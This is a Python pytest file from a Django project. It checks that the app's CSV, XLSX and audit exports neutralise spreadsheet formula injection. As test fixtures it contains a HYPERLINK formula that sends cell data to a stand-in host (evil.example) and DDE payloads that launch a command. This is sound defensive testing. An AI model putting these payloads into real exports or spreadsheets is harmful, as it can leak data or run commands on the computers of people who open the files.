"""Every cell Accord writes to a CSV or XLSX is neutralised against formula execution."""

import csv
import datetime as dt
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from accord.core.downloads import safe_cell
from accord.partnership.models import PracticeTheme
from accord.testing.auth import sign_in

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
THEME = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_a_spreadsheet_would_run_is_kept_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [0, 7, -3, 2.5, None, "Devon & Cornwall Police", "Stage 2"])
def test_numbers_and_ordinary_text_pass_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.django_db
def test_hostile_names_reach_no_download_as_a_formula(world, client):
    world.health.name = FORMULA
    world.health.save()
    PracticeTheme.objects.filter(partnership=world.partnership, code="neglect").update(label=THEME)
    for _ in range(6):
        world.raised(at=timezone.make_aware(dt.datetime(2025, 9, 2, 10)))
    sign_in(client, world.executive)

    def csv_cells(url, params):
        body = client.get(url, params).content.decode()
        return [cell for row in csv.reader(io.StringIO(body)) for cell in row]

    for cells in (
        csv_cells("/reports/annual.csv", {"year": 2025}),
        csv_cells("/reports/pdg.csv", {"start-day": 1, "start-month": 4, "start-year": 2025}),
    ):
        texts = [c for c in cells if "HYPERLINK" in c or "SUM(1+1)" in c]
        assert texts, "the hostile names should appear, neutralised"
        assert all(not c.startswith(("=", "+", "-", "@")) for c in cells)

    book = load_workbook(io.BytesIO(client.get("/reports/annual.xlsx", {"year": 2025}).content))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    hostile = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert hostile and all(c.data_type == "s" and not c.value.startswith("=") for c in hostile)

    sign_in(client, world.auditor)
    world.practitioner_health.username = "=cmd|' /C calc'!A0"
    world.practitioner_health.save()
    world.raised()
    body = b"".join(client.get("/audit/export.csv").streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body)))
    assert any("cmd|" in c for row in rows for c in row)
    assert all(not c.startswith(("=", "+", "-", "@")) for row in rows for c in row)
